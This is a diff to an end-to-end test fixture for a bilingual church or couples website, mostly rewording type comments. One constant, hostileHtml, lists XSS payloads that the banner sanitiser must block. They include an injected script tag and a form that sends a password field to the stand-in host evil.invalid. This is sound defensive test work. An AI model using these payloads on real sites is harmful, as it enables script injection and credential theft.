@@ -19,7 +19,7 @@ export type Occasion = { id: number; name: string; nameSw: string; price: number
 /** A gallery of the tests' site; `photos` are its pictures' descriptions. */
 export type Gallery = { id: number; name: string; nameSw: string; description: string; photos: string[] };
 
-/** What the seminar, event and gallery pages show; `programme.ts` has the texts. */
+/** The content of the seminar, event and gallery pages; `programme.ts` has the texts. */
 export type Programme = {
 	seminars: {
 		/** Began two days ago, ends in two days; no photo. */
@@ -48,7 +48,7 @@ export type Programme = {
 	};
 };
 
-/** What the tests find on the site; each category is one state of the nominees page. */
+/** The content of the tests' site; each category is one state of the nominees page. */
 export type SiteContent = {
 	programme: Programme;
 	/** Of the walk. */
@@ -73,9 +73,9 @@ export type SiteContent = {
 	ballots: Category[];
 };
 
-/** What the page of the first couple of `reading` tells. */
+/** The texts on the page of the first couple of `reading`. */
 export const coupleWords = {
-	told: {
+	details: {
 		story: "They met in the choir.",
 		storySw: "Walikutana kwaya.",
 		church: "Moshi Town Parish",
@@ -112,7 +112,7 @@ export const bannerWords = {
 	hostile: { title: "Dinner of couples", text: "Come with your family." },
 } as const;
 
-/** Banner HTML with every attack the site must stand; what runs or leaves writes its name to `window.hostile`. */
+/** Banner HTML with every attack the site must withstand; one that succeeds writes its name to `window.hostile`. */
 export const hostileHtml = [
 	`<strong>${bannerWords.hostile.text}</strong>`,
 	`<script>window.hostile = "script"</script>`,
@@ -131,7 +131,7 @@ export const hostileHtml = [
 	`<form action="https://evil.invalid/steal"><input name="password"><button>Send</button></form>`,
 ].join("\n");
 
-/** What the site was filled with; handed over by the global set-up. */
+/** The site's content, handed over by the global set-up. */
 export function siteContent(): SiteContent {
 	return JSON.parse(process.env.E2E_CONTENT ?? "null") as SiteContent;
 }
